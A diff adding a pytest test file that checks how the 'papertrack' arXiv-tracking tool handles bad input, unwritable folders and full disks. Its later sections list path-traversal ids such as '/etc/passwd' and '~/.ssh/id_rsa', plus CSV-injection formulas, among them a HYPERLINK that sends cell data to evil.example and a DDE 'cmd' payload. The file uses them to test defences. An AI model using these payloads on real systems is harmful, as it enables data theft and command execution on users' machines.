@@ -1,0 +1,791 @@
+"""Bad user input and a hostile machine: `Error: what. How to fix it.`, a non-zero exit, no harm.
+
+Every case runs the real command line on a real store (ingested from the recorded
+feeds) and checks four things: the exit code, exactly one ``Error:`` line on
+stderr saying what happened and then how to fix it, no traceback, and the store
+(every file, byte for byte) as it was. Full-disk failures run papertrack in a
+subprocess whose file writes fail with ENOSPC; an unwritable data home is a path
+below a regular file (which stops root too) or, for other users, a read-only folder.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from collections.abc import Iterator, Sequence
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner, Result
+
+from papertrack.cli import app
+from papertrack.export import CSV_COLUMNS, csv_cell, csv_row
+from papertrack.models import Paper
+from papertrack.store import ALL, Store, week_of
+
+DATA = Path(__file__).parent / "data"
+LISTING = DATA / "rss" / "atom-cs.AI-2025-08-20.first86.xml"
+API_TEN = DATA / "api-atom" / "arxiv.py-2026-recorded" / "q_testing_s10_m10_34e56e15aaac.xml"
+API_EMPTY = DATA / "api-atom" / "arxiv.py-2026-recorded" / "id_0000.0000_s0_m100_8b51d9633a68.xml"
+#: A port nothing listens on: should a check regress, fetch fails fast, offline.
+NOWHERE = ["--api-url", "http://127.0.0.1:9/api", "--listing-url", "http://127.0.0.1:9/rss"]
+#: "Error: <what happened>. <How to fix it>." on one line.
+ERROR_LINE = re.compile(r"Error: (?P<what>.+?[.?!]) (?P<fix>[A-Z'\"(].*[.?!])")
+
+
+def run(*args: str, env: dict[str, str | None] | None = None) -> Result:
+    return CliRunner().invoke(app, list(args), env=env)
+
+
+def assert_error(result: Result, code: int, *needles: str) -> str:
+    """One ``Error:`` line with a fix, exit ``code``, no traceback; returns the line."""
+    output = result.stdout + result.stderr
+    assert "Traceback" not in output
+    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
+        result.exception
+    )
+    assert result.exit_code == code, (result.exit_code, result.stderr)
+    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
+    assert len(errors) == 1, result.stderr
+    line = errors[0]
+    assert ERROR_LINE.fullmatch(line), f"no 'what. How to fix.' in {line!r}"
+    for needle in needles:
+        assert needle in line, (needle, line)
+    return line
+
+
+def assert_usage_error(result: Result, *needles: str) -> None:
+    """Click's own usage errors: exit 2, one ``Error:`` line, and where to read the help."""
+    assert "Traceback" not in result.stdout + result.stderr
+    assert result.exit_code == 2, result.stderr
+    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
+    assert len(errors) == 1, result.stderr
+    assert re.search(r"Try '.+ -h' for help\.", result.stderr), result.stderr
+    for needle in needles:
+        assert needle in errors[0], (needle, errors[0])
+
+
+def snapshot(root: Path) -> dict[str, str]:
+    """Every file under ``root``: relative path -> SHA-256 of its bytes."""
+    if not root.exists():
+        return {}
+    return {
+        str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
+        for path in sorted(root.rglob("*"))
+        if path.is_file()
+    }
+
+
+def all_files(root: Path) -> set[str]:
+    return {str(p.relative_to(root)) for p in root.rglob("*")}
+
+
+def temp_files(root: Path) -> list[Path]:
+    return sorted(root.rglob("*.tmp"))
+
+
+# --------------------------------------------------------------------------- fixtures
+
+
+@pytest.fixture(scope="module")
+def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A data home with a real store, a followed topic and a user topic (built once)."""
+    home = tmp_path_factory.mktemp("template") / "papertrack-home"
+    env: dict[str, str | None] = {
+        "PAPERTRACK_HOME": str(home),
+        "PAPERTRACK_DB": None,
+        "PAPERTRACK_LOG_FILE": None,
+        "HOME": str(home.parent / "user-home"),
+        "XDG_DATA_HOME": str(home.parent / "xdg"),
+    }
+    for args in (
+        ["ingest", str(LISTING)],
+        ["follow", "llm-agent-training"],
+        ["topics", "add", "Agent Benchmarks", "--query", "agent* AND benchmark*"],
+    ):
+        result = run(*args, env=env)
+        assert result.exit_code == 0, result.stderr
+    (home / "papertrack.log").unlink(missing_ok=True)
+    return home
+
+
+@pytest.fixture
+def home(template: Path, isolated_home: Path) -> Path:
+    """This test's data home: a fresh copy of the template."""
+    shutil.copytree(template, isolated_home)
+    return isolated_home
+
+
+@pytest.fixture
+def untouched(home: Path) -> Iterator[Path]:
+    """Checks, after the test, that the store and the user's files are byte for byte as before."""
+    store = snapshot(home / "store")
+    user_files = {name: (home / name).read_bytes() for name in ("topics.toml", "following.json")}
+    yield home
+    assert snapshot(home / "store") == store
+    assert not temp_files(home)
+    for name, data in user_files.items():
+        assert (home / name).read_bytes() == data, name
+
+
+# --------------------------------------------------------------------------- unknown topics
+
+UNKNOWN_TOPIC = [
+    ["latest", "nosuch-topic"],
+    ["momentum", "nosuch-topic"],
+    ["topic", "nosuch-topic"],
+    ["follow", "llm-agent-training", "nosuch-topic"],
+    ["unfollow", "nosuch-topic"],
+    ["topics", "show", "nosuch-topic"],
+    ["topics", "remove", "nosuch-topic"],
+    ["topics", "explain", "2508.13167", "nosuch-topic"],
+    ["search", "agent", "--topic", "nosuch-topic"],
+    ["export", "-f", "json", "--topic", "nosuch-topic"],
+]
+
+
+@pytest.mark.parametrize("args", UNKNOWN_TOPIC, ids=lambda a: " ".join(a[:2]))
+def test_an_unknown_topic_is_a_usage_error_that_lists_the_way_out(
+    untouched: Path, args: list[str]
+) -> None:
+    result = run(*args)
+    assert_error(result, 2, "no topic named 'nosuch-topic'", "Run 'papertrack topics'")
+    assert result.stdout == ""
+
+
+def test_a_misspelt_topic_gets_suggestions(untouched: Path) -> None:
+    line = assert_error(run("latest", "LLM agent trainin"), 2)
+    assert "Did you mean: LLM Agent Training (llm-agent-training)?" in line
+
+
+# --------------------------------------------------------------------------- dates
+
+BAD_DATES = [
+    ["latest", "--since", "the day before"],
+    ["latest", "--since", "2026-02-30"],
+    ["latest", "--since", "99999999999999999999 days ago"],
+    ["export", "-f", "csv", "--since", "soon"],
+    ["digest", "--since", "last tuesday-ish", "--dry-run"],
+    ["momentum", "llm-agent-training", "--as-of", "32/13/2026"],
+    ["trending", "--as-of", "someday"],
+    ["topic", "llm-agent-training", "--as-of", "x"],
+    ["topics", "--as-of", "2026-13-01"],
+    ["topics", "test", "agent*", "--as-of", "never"],
+    ["fetch", "-c", "cs.AI", "--since", "a while", *NOWHERE],
+]
+
+
+@pytest.mark.parametrize("args", BAD_DATES, ids=lambda a: " ".join(a[:3]))
+def test_a_malformed_date_says_which_forms_work(untouched: Path, args: list[str]) -> None:
+    line = assert_error(run(*args), 2, "as a date", "Use a date such as 2026-08-01")
+    assert "--since" in line or "--as-of" in line
+
+
+OUT_OF_CALENDAR = [
+    (["topics", "--as-of", "0001-01-01"], "Choose a day from"),
+    (["topics", "show", "llm-agent-training", "--as-of", "9999-12-31"], "Choose a day from"),
+    (["topics", "test", "agent*", "--as-of", "9999-12-31"], "Choose a day from"),
+    (["momentum", "llm-agent-training", "--as-of", "0001-01-01"], "Choose another date"),
+    (["trending", "--as-of", "9999-12-31", "--weeks", "1"], "Choose another date"),
+    (["momentum", "llm-agent-training", "--window", "0"], "Use 1 or more"),
+    (["fetch", "-c", "cs.AI", "--days", "99999999999", *NOWHERE], "Give a smaller number"),
+    (["fetch", "-c", "cs.AI", "--backfill", "99999999999", *NOWHERE], "Give a smaller number"),
+]
+
+
+@pytest.mark.parametrize(("args", "fix"), OUT_OF_CALENDAR, ids=lambda a: " ".join(a[:3]))
+def test_dates_at_the_ends_of_the_calendar_are_usage_errors(
+    untouched: Path, args: list[str], fix: str
+) -> None:
+    assert_error(run(*args), 2, fix)
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["latest", "--since", "2026-08-01T00:00:00+99:00"],
+        ["momentum", "llm-agent-training", "--as-of", "9999-12-31T23:00-14:00"],
+        ["digest", "--since", "9999-12-31T23:59:59-12:00", "--dry-run"],
+    ],
+    ids=lambda a: a[0],
+)
+def test_dates_with_impossible_offsets_are_usage_errors(untouched: Path, args: list[str]) -> None:
+    assert_error(run(*args), 2, "as a date")
+
+
+# --------------------------------------------------------------------------- queries
+
+BAD_QUERIES = [
+    (["latest", "--query", "(agent"], "unbalanced parenthesis at column 1"),
+    (["latest", "--query", "agent AND"], "operator AND at column 7 has nothing after it"),
+    (["latest", "--query", '"tool use'], "unterminated quote at column 1"),
+    (["latest", "--query", "title:"], "field title: at column 1 has no term after it"),
+    (["latest", "--query", "venue:neurips"], "unknown field 'venue:'"),
+    (["latest", "--query", "agent**"], "misplaced wildcard"),
+    (["latest", "--query", "(" * 150 + "agent" + ")" * 150], "nested too deeply"),
+    (["latest", "--query", "   "], "empty query"),
+    (["search", "agent OR OR tool"], "operator OR at column 10 follows operator OR"),
+    (["export", "-f", "json", "--query", ")"], "')' closes nothing"),
+    (["topics", "test", "agent AND (tool OR)"], "has nothing"),
+    (["topics", "add", "Tool Use", "--query", "AND tool"], "has nothing before it"),
+    (["topics", "add", "Tool Use", "--query", "tool", "-c", "not a category"], "bad category"),
+    (["topics", "add", "Tool Use", "--query", "tool", "--slug", "../tool"], "is not a slug"),
+]
+
+
+@pytest.mark.parametrize(("args", "what"), BAD_QUERIES, ids=lambda a: " ".join(a[:3])[:40])
+def test_a_malformed_query_names_the_column_and_the_fix(
+    untouched: Path, args: list[str], what: str
+) -> None:
+    assert_error(run(*args), 2, what)
+
+
+@pytest.mark.parametrize("query", ["(", "agent (", "(("])
+def test_an_open_parenthesis_at_the_end_is_reported_as_such(untouched: Path, query: str) -> None:
+    line = assert_error(run("latest", "--query", query), 2, "unbalanced parenthesis")
+    assert "closes nothing" not in line
+    assert "Close it with ')'" in line
+
+
+# --------------------------------------------------------------------------- options
+
+BAD_OPTIONS = [
+    (["latest", "-n", "0"], "'--limit'"),
+    (["latest", "--limit", "many"], "'--limit'"),
+    (["search", "agent", "-n", "-1"], "'--limit'"),
+    (["topic", "llm-agent-training", "-n", "0"], "'--limit'"),
+    (["latest", "-f", "xml"], "'--format'"),
+    (["export", "--format", "docx"], "'--format'"),
+    (["momentum", "llm-agent-training", "-f", "csv"], "'--format'"),
+    (["digest", "-f", "pdf"], "'--format'"),
+    (["topics", "test", "agent", "--sample", "-1"], "'--sample'"),
+    (["fetch", "-c", "cs.AI", "--page-size", "5000", *NOWHERE], "'--page-size'"),
+]
+
+
+@pytest.mark.parametrize(("args", "option"), BAD_OPTIONS, ids=lambda a: " ".join(a[:3])[:40])
+def test_a_bad_option_value_is_a_usage_error(untouched: Path, args: list[str], option: str) -> None:
+    assert_usage_error(run(*args), "Invalid value for", option)
+
+
+@pytest.mark.parametrize(
+    ("args", "what"),
+    [
+        (["fetch", "-c", "cs.AI/../../x", *NOWHERE], "is not an arXiv category"),
+        (["fetch", "-c", "cs AI", *NOWHERE], "is not an arXiv category"),
+        (["fetch", "-c", "cs.AI", "--days", "3", "--backfill", "2", *NOWHERE], "exclude each"),
+    ],
+)
+def test_fetch_refuses_bad_categories_before_any_request(
+    untouched: Path, args: list[str], what: str
+) -> None:
+    assert_error(run(*args), 2, what)
+
+
+def test_a_source_name_with_a_nul_is_a_failed_source(untouched: Path) -> None:
+    assert_error(run("ingest", "feed\x00.xml"), 1)
+
+
+def test_a_bad_lock_timeout_is_a_usage_error(untouched: Path) -> None:
+    result = run("ingest", str(API_TEN), env={"PAPERTRACK_LOCK_TIMEOUT": "a minute"})
+    assert_error(result, 2, "PAPERTRACK_LOCK_TIMEOUT='a minute'", "Set it to e.g. 60")
+
+
+# --------------------------------------------------------------------------- unwritable home
+
+
+@pytest.fixture
+def blocker(tmp_path: Path) -> Path:
+    """A regular file where a folder should be: writing below it fails, even for root."""
+    path = tmp_path / "not-a-folder"
+    path.write_text("keep me\n")
+    return path
+
+
+WRITERS = [
+    ["ingest", str(LISTING)],
+    ["follow", "llm-agent-training"],
+    ["topics", "add", "Tool Use", "--query", "tool*"],
+]
+READERS = [
+    ["latest"],
+    ["show", "2508.13167"],
+    ["momentum", "llm-agent-training"],
+    ["topics", "test", "agent*"],
+    ["digest"],
+]
+
+
+@pytest.mark.parametrize("args", WRITERS + READERS, ids=lambda a: a[0])
+def test_a_data_home_below_a_file_is_an_error_naming_the_path(
+    blocker: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]
+) -> None:
+    monkeypatch.setenv("PAPERTRACK_HOME", str(blocker / "papertrack"))
+    line = assert_error(run(*args), 1, str(blocker))
+    assert re.search(r"PAPERTRACK_HOME|writable|permissions", line), line
+    assert blocker.read_text() == "keep me\n"
+
+
+@pytest.mark.parametrize("args", [["ingest", str(LISTING)], ["latest"], ["export", "-f", "json"]])
+def test_a_db_below_a_file_is_an_error_naming_the_path(
+    untouched: Path, blocker: Path, args: list[str]
+) -> None:
+    line = assert_error(run("--db", str(blocker / "store"), *args), 1, str(blocker / "store"))
+    assert "--db" in line
+    assert blocker.read_text() == "keep me\n"
+
+
+@pytest.mark.skipif(
+    not hasattr(os, "geteuid") or os.geteuid() == 0,
+    reason="root writes to read-only folders; the blocker tests above cover root",
+)
+@pytest.mark.parametrize(
+    ("args", "what"),
+    [
+        (["ingest", str(LISTING)], "could not create the store at"),
+        (["follow", "llm-agent-training"], "following.json"),
+        (["topics", "add", "Tool Use", "--query", "tool*"], "topics.toml"),
+    ],
+    ids=lambda a: a[0] if isinstance(a, list) else "",
+)
+def test_a_read_only_data_home_is_an_error_naming_the_path(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], what: str
+) -> None:
+    home = tmp_path / "read-only-home"
+    home.mkdir(mode=0o500)
+    monkeypatch.setenv("PAPERTRACK_HOME", str(home))
+    try:
+        line = assert_error(run(*args), 1, str(home), what)
+        assert re.search(r"writable|PAPERTRACK_HOME|permissions", line), line
+        assert list(home.iterdir()) == []
+    finally:
+        home.chmod(0o700)
+
+
+@pytest.mark.skipif(
+    not hasattr(os, "geteuid") or os.geteuid() == 0,
+    reason="root writes to read-only folders",
+)
+def test_a_read_only_store_is_an_error_and_stays_as_it_was(home: Path) -> None:
+    store = home / "store"
+    before = snapshot(store)
+    folders = [store, *(p for p in store.rglob("*") if p.is_dir())]
+    for folder in folders:
+        folder.chmod(0o500)
+    try:
+        line = assert_error(run("ingest", str(API_TEN)), 1, str(store))
+        assert "writable" in line
+    finally:
+        for folder in folders:
+            folder.chmod(0o700)
+    assert snapshot(store) == before
+
+
+# --------------------------------------------------------------------------- full disk
+
+# Runs papertrack with every file write from the Nth one whose path matches
+# PAPERTRACK_TEST_FULL_AT on failing as on a full disk: half the bytes land, then ENOSPC.
+FULL_DISK = r"""
+import builtins, errno, os, re, sys
+
+at = re.compile(os.environ["PAPERTRACK_TEST_FULL_AT"])
+nth = int(os.environ["PAPERTRACK_TEST_FULL_NTH"])
+real_open = builtins.open
+matched = []
+full = []
+
+
+class FullDisk:
+    def __init__(self, handle):
+        self.handle = handle
+
+    def write(self, data):
+        self.handle.write(data[: len(data) // 2])
+        self.handle.flush()
+        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *exc):
+        self.handle.close()
+
+    def __getattr__(self, name):
+        return getattr(self.handle, name)
+
+
+def open_on_a_full_disk(file, mode="r", *args, **kwargs):
+    handle = real_open(file, mode, *args, **kwargs)
+    if not any(flag in mode for flag in "wax") or isinstance(file, int):
+        return handle
+    if not full and at.search(os.fsdecode(file)):
+        matched.append(file)
+        if len(matched) == nth:
+            full.append(file)  # from here on the disk stays full
+    return FullDisk(handle) if full else handle
+
+
+builtins.open = open_on_a_full_disk
+from papertrack.cli import main
+
+sys.argv[0] = "papertrack"
+main()
+"""
+
+
+def run_on_full_disk(at: str, *args: str, nth: int = 1) -> subprocess.CompletedProcess[str]:
+    """papertrack ``args`` in a subprocess whose disk fills at the ``nth`` write matching ``at``."""
+    return subprocess.run(
+        [sys.executable, "-c", FULL_DISK, *args],
+        env={**os.environ, "PAPERTRACK_TEST_FULL_AT": at, "PAPERTRACK_TEST_FULL_NTH": str(nth)},
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+
+
+def assert_disk_full_error(done: subprocess.CompletedProcess[str], written: str) -> None:
+    assert "Traceback" not in done.stdout + done.stderr, done.stderr
+    assert done.returncode == 1, done.stderr
+    errors = [line for line in done.stderr.splitlines() if line.startswith("Error:")]
+    assert len(errors) == 1, done.stderr
+    assert re.fullmatch(
+        rf"Error: could not write {written}: No space left on device\. "
+        r"Check that the disk has space and the directory is writable\.",
+        errors[0],
+    ), errors[0]
+
+
+def store_content(store_dir: Path) -> dict[str, object]:
+    """What a store holds, whatever the bytes: its papers, id map and counts."""
+    store = Store(store_dir)
+    papers = sorted(
+        (p.to_record() for week in store.weeks() for p in store.read_partition(week)),
+        key=lambda r: str(r["arxiv_id"]),
+    )
+    ids: dict[str, str] = {}
+    for shard in sorted((store_dir / "ids").glob("*.json")):
+        ids.update(json.loads(shard.read_text())["ids"]["1"])
+    index = store.index()
+    return {"papers": papers, "ids": ids, "counts": index.counts, "days": index.days}
+
+
+def assert_consistent(store_dir: Path) -> None:
+    """Every paper once, in the week of its date, in the id map, and counted in the index."""
+    store = Store(store_dir)
+    content = store_content(store_dir)
+    seen: dict[str, str] = {}
+    counts: dict[str, dict[str, int]] = {}
+    for week in store.weeks():
+        for paper in store.read_partition(week):
+            assert paper.arxiv_id not in seen, paper.arxiv_id
+            assert week_of(paper.paper_date) == week
+            seen[paper.arxiv_id] = week
+            for topic in (ALL, *paper.tags):
+                counts.setdefault(topic, {}).setdefault(week, 0)
+                counts[topic][week] += 1
+    assert content["ids"] == seen
+    indexed = {
+        t: {w: n for w, n in weeks.items() if n} for t, weeks in store.index().counts.items()
+    }
+    assert {t: w for t, w in indexed.items() if w} == counts
+    assert not (store_dir / ".dirty").exists()
+
+
+_WEEK_FILE = r"{store}/papers/\d{{4}}-\d{{2}}-\d{{2}}\.json"
+#: Where the disk fills up during `ingest` of ten new papers (ten weeks, eight id shards),
+#: in the order the store writes: (path pattern, which match, the file the error names).
+FULL_AT = {
+    "marker": (r"\.dirty", 1, r"{store}/\.dirty"),
+    "first partition": (r"/papers/", 1, _WEEK_FILE),
+    "later partition": (r"/papers/", 4, _WEEK_FILE),
+    "id shard": (r"/ids/", 1, r"{store}/ids/o?\d{{4}}\.json"),
+    "index": (r"index\.json", 1, r"{store}/index\.json"),
+}
+
+
+@pytest.mark.parametrize("where", list(FULL_AT))
+def test_a_full_disk_during_ingest_is_an_error_and_the_next_writer_repairs(
+    home: Path, where: str
+) -> None:
+    store = home / "store"
+    before_bytes = snapshot(store)
+    before = store_content(store)
+    pattern, nth, written = FULL_AT[where]
+    done = run_on_full_disk(pattern, "ingest", str(API_TEN), nth=nth)
+    assert_disk_full_error(done, written.format(store=re.escape(str(store))))
+    assert not temp_files(home)
+    after_bytes = snapshot(store)
+    if after_bytes.pop(".dirty", None) is None:
+        assert after_bytes == before_bytes  # every file as it was
+    else:
+        # Some files were replaced before the failure: the marker makes the next writer
+        # rebuild the derived files (the index is written last, so it is still the old one).
+        assert where != "marker"
+        assert after_bytes["index.json"] == before_bytes["index.json"]
+        if where == "first partition":
+            assert after_bytes == before_bytes
+    # Any writer repairs the store, here one that adds nothing; then the retry adds everything.
+    assert run("ingest", str(API_EMPTY)).exit_code == 0
+    assert_consistent(store)
+    assert run("ingest", str(API_TEN)).exit_code == 0
+    assert_consistent(store)
+    after = store_content(store)
+    assert len(after["papers"]) == len(before["papers"]) + 10  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    "where",
+    [
+        "marker",
+        "first partition",
+        "later partition",
+        "id shard",
+        "index",
+    ],
+)
+def test_a_full_disk_during_ingest_leaves_the_papers_as_they_were(home: Path, where: str) -> None:
+    store = home / "store"
+    before = store_content(store)
+    files = {p: p.read_bytes() for p in store.rglob("*") if p.is_file()}
+    pattern, nth, _ = FULL_AT[where]
+    done = run_on_full_disk(pattern, "ingest", str(API_TEN), nth=nth)
+    assert done.returncode == 1
+    # Every file of the batch was staged and none put in place: the store is byte for
+    # byte what it was, with no marker and no temp file left.
+    assert {p: p.read_bytes() for p in store.rglob("*") if p.is_file()} == files
+    assert run("ingest", str(API_EMPTY)).exit_code == 0  # and the next writer agrees
+    assert store_content(store) == before
+
+
+@pytest.mark.parametrize(
+    ("args", "at", "file"),
+    [
+        (["topics", "add", "Tool Use", "--query", "tool*"], r"topics\.toml", "topics.toml"),
+        (["topics", "remove", "agent-benchmarks"], r"topics\.toml", "topics.toml"),
+        (["follow", "gui-agents"], r"following\.json", "following.json"),
+        (["unfollow", "llm-agent-training"], r"following\.json", "following.json"),
+    ],
+    ids=lambda a: " ".join(a[:2]) if isinstance(a, list) else None,
+)
+def test_a_full_disk_leaves_the_users_files_as_they_were(
+    untouched: Path, args: list[str], at: str, file: str
+) -> None:
+    done = run_on_full_disk(at, *args)
+    assert_disk_full_error(done, re.escape(str(untouched / file)))
+
+
+def test_a_full_disk_while_exporting_leaves_no_half_file(untouched: Path, tmp_path: Path) -> None:
+    out = tmp_path / "exports" / "papers.csv"
+    out.parent.mkdir()
+    done = run_on_full_disk(r"papers\.csv", "export", "-f", "csv", "-o", str(out))
+    assert_disk_full_error(done, re.escape(str(out)))
+    assert list(out.parent.iterdir()) == []
+
+
+def test_a_full_disk_while_saving_the_digest_mark_shows_the_papers_again(untouched: Path) -> None:
+    done = run_on_full_disk(r"digest-state\.json", "digest", "--since", "2025-08-01")
+    assert_disk_full_error(done, re.escape(str(untouched / "digest-state.json")))
+    assert not (untouched / "digest-state.json").exists()
+    again = run("digest", "--since", "2025-08-01", "--dry-run")
+    assert again.exit_code == 0 and again.stdout == done.stdout  # nothing is lost
+
+
+# --------------------------------------------------------------------------- ids are not paths
+
+HOSTILE_IDS = [
+    "../../../../etc/passwd",
+    "../x",
+    "..",
+    "/etc/passwd",
+    "2508.13167/../../index",
+    "2508.13167/",
+    "ids/2508",
+    "..\\..\\windows\\win.ini",
+    "C:\\Windows\\win.ini",
+    "~/.ssh/id_rsa",
+    "%2e%2e%2fetc%2fpasswd",
+    "https://arxiv.org/abs/../../etc/passwd",
+    "file:///etc/passwd",
+    "2508.13167\x00.json",
+    "a" * 100_000,
+    "2508." + "1" * 5000,
+]
+
+
+def files_outside(root: Path, home: Path, before: set[str]) -> set[str]:
+    """Files that appeared under ``root`` but outside the data home."""
+    new = all_files(root) - before
+    return {name for name in new if not (root / name).is_relative_to(home)}
+
+
+@pytest.mark.parametrize("arxiv_id", HOSTILE_IDS, ids=lambda s: repr(s[:24]))
+def test_show_and_explain_never_turn_an_id_into_a_path(
+    untouched: Path, tmp_path: Path, arxiv_id: str
+) -> None:
+    before = all_files(tmp_path)
+    assert_error(run("show", arxiv_id), 2, "is not an arXiv id", "Give one as 2508.13167")
+    assert_error(run("show", arxiv_id, "--json"), 2, "is not an arXiv id")
+    assert_error(run("topics", "explain", arxiv_id), 2, "is not an arXiv id")
+    assert_error(run("topics", "explain", arxiv_id, "llm-agent-training"), 2)
+    assert files_outside(tmp_path, untouched, before) == set()
+
+
+def test_a_valid_id_that_is_not_stored_is_no_such_paper(untouched: Path) -> None:
+    assert_error(run("show", "arXiv:2508.99999v3"), 1, "no paper 2508.99999 in the store")
+    assert_error(run("topics", "explain", "hep-th/9901001"), 1, "no paper hep-th/9901001")
+
+
+GUIDS = [
+    "../../../../tmp/papertrack-evil",
+    "/etc/passwd",
+    "..\\..\\evil.json",
+    "C:\\evil",
+    "ids/2508",
+    "papers/2025-08-18",
+    "..",
+    ".",
+    "aux",
+    "x" * 5000,
+    '=HYPERLINK("http://evil.example","x")',
+]
+
+
+def generic_feed(items: Sequence[tuple[str, str, str]]) -> str:
+    """An RSS 2.0 feed of another site: (guid, title, author) per item."""
+    from xml.sax.saxutils import escape
+
+    body = "".join(
+        f"<item><guid>{escape(guid)}</guid><title>{escape(title)}</title>"
+        f"<author>{escape(author)}</author><link>https://example.org/{n}</link>"
+        f"<category>{escape(title)}</category>"
+        f"<pubDate>Wed, 20 Aug 2025 0{n % 10}:00:00 GMT</pubDate></item>"
+        for n, (guid, title, author) in enumerate(items)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>A blog</title>'
+        f"<link>https://example.org/</link><description>d</description>{body}</channel></rss>"
+    )
+
+
+def test_guids_of_other_feeds_never_become_paths(home: Path, tmp_path: Path) -> None:
+    feed = tmp_path / "blog.xml"
+    feed.write_text(generic_feed([(g, f"Post {n}", "Ann") for n, g in enumerate(GUIDS)]))
+    before = all_files(tmp_path)
+    result = run("ingest", str(feed))
+    assert result.exit_code == 0, result.stderr
+    assert f"{len(GUIDS)} new" in result.stderr
+    store = home / "store"
+    assert files_outside(tmp_path, home, before) == set()
+    for path in store.rglob("*"):
+        assert path.resolve().is_relative_to(store.resolve())
+    names = {p.name for p in (store / "ids").iterdir()}
+    assert all(re.fullmatch(r"(\d{4}|o\d{4}|x[0-9a-f]{2})\.json", n) for n in names), names
+    weeks = {p.name for p in (store / "papers").iterdir()}
+    assert all(re.fullmatch(r"(\d{4}-\d{2}-\d{2}|undated)\.json", n) for n in weeks), weeks
+    # A stored guid is found by its id, as data: explain takes it, show wants an arXiv id.
+    for guid in GUIDS[:3]:
+        explained = run("topics", "explain", guid, "--json")
+        assert explained.exit_code == 0, explained.stderr
+        assert json.loads(explained.stdout)["arxiv_id"] == guid
+        assert_error(run("show", guid), 2, "is not an arXiv id")
+    assert files_outside(tmp_path, home, before) == set()
+    assert_consistent(store)
+
+
+# --------------------------------------------------------------------------- CSV injection
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def test_csv_cells_of_feed_text_never_start_a_formula() -> None:
+    paper = Paper(
+        arxiv_id="-1+1",
+        title="=1+1",
+        version=3,
+        authors=("+Ann", "Bob", "@Cy"),
+        author_affiliations=(("=Lab",), (), ()),
+        primary_category="@cs",
+        categories=("-cs.AI", "cs.CL"),
+        published=datetime(2025, 8, 20, tzinfo=UTC),
+        updated=datetime(2025, 8, 21, 10, tzinfo=UTC),
+        announced=datetime(2025, 8, 22, tzinfo=UTC),
+        doi="\t=1",
+        url="\r=2",
+        pdf_url="-3",
+        tags=("llm-agents",),
+    )
+    row = dict(zip(CSV_COLUMNS, csv_row(paper), strict=True))
+    assert row["arxiv_id"] == "'-1+1"
+    assert row["title"] == "'=1+1"
+    assert row["authors"] == "'+Ann; Bob; @Cy"  # only the start of a cell counts
+    assert row["affiliations"] == "'=Lab"
+    assert row["primary_category"] == "'@cs"
+    assert row["categories"] == "'-cs.AI; cs.CL"
+    assert (row["doi"], row["url"], row["pdf_url"]) == ("'\t=1", "'=2", "'-3")  # CR dropped
+    assert row["tags"] == "llm-agents"
+    # papertrack's own columns are written as they are
+    assert row["version"] == "3"
+    assert row["published"] == "2025-08-20T00:00:00Z"
+    assert row["updated"] == "2025-08-21T10:00:00Z"
+    assert row["announced"] == "2025-08-22T00:00:00Z"
+    assert row["paper_date"] == "2025-08-20T00:00:00Z"
+
+
+@pytest.mark.parametrize("text", ["", "plain", "3 = 1 + 2", "'quoted", " =spaced", "2508.13167"])
+def test_csv_cells_that_start_no_formula_are_unchanged(text: str) -> None:
+    assert csv_cell(text) == text
+
+
+def test_csv_from_a_hostile_feed_is_inert_in_a_spreadsheet(home: Path, tmp_path: Path) -> None:
+    feed = tmp_path / "hostile.xml"
+    items = [(f"guid-{n}", formula, formula) for n, formula in enumerate(FORMULAS)]
+    items.append(("=guid", "A fine title", "Ann Lee"))
+    feed.write_text(generic_feed(items))
+    assert run("ingest", str(feed)).exit_code == 0
+    as_json = {p["arxiv_id"]: p for p in json.loads(run("latest", "-n", "500", "--json").stdout)}
+    outputs = [
+        run("latest", "-n", "500", "-f", "csv").stdout,
+        run("search", "fine OR hyperlink OR sum OR cmd", "-n", "500", "-f", "csv").stdout,
+        run("export", "-f", "csv").stdout,
+    ]
+    for output in outputs:
+        rows = list(csv.DictReader(io.StringIO(output)))
+        assert rows
+        for row in rows:
+            for column, cell in row.items():
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+        by_id = {row["arxiv_id"].removeprefix("'"): row for row in rows}
+        for arxiv_id, row in by_id.items():
+            paper = as_json[arxiv_id]  # JSON keeps the text as the feed wrote it
+            assert row["title"] == csv_cell(paper["title"])
+            assert row["authors"] == csv_cell("; ".join(paper["authors"]))
+            assert row["published"] == (paper["published"] or "")
+            assert row["paper_date"] == (paper["paper_date"] or "")
+    assert as_json["=guid"]["title"] == "A fine title"
+    assert by_id["=guid"]["arxiv_id"] == "'=guid"
+
+
+def test_csv_of_real_papers_is_what_json_says(untouched: Path) -> None:
+    papers = json.loads(run("latest", "-n", "500", "--json").stdout)
+    rows = list(csv.DictReader(io.StringIO(run("latest", "-n", "500", "-f", "csv").stdout)))
+    assert len(rows) == len(papers) == 86
+    for paper, row in zip(papers, rows, strict=True):
+        assert row["arxiv_id"] == paper["arxiv_id"]
+        assert row["title"] == csv_cell(paper["title"])
+        assert row["version"] == str(paper["version"])
+        assert row["announced"] == paper["announced"]
